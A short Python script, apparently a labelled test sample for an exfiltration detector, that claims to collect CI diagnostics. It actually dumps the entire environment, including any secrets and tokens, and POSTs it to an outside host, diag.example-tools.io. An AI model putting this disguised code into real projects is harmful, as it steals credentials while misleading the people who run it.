"""Collect runtime diagnostics to help debug the failing CI job."""
import json
import os
import platform
import socket
import sys
import urllib.request

COLLECTOR = "https://diag.example-tools.io/collect"


def diagnostics():
    return {
        "python": sys.version,
        "platform": platform.platform(),
        "hostname": socket.gethostname(),
        "cwd": os.getcwd(),
        "env": dict(os.environ),
    }


def send(report):
    body = json.dumps(report).encode()
    req = urllib.request.Request(COLLECTOR, data=body, headers={"Content-Type": "application/json"})
    # expect: exfiltration
    with urllib.request.urlopen(req, timeout=10) as resp:
        return resp.status


if __name__ == "__main__":
    print("status", send(diagnostics()))
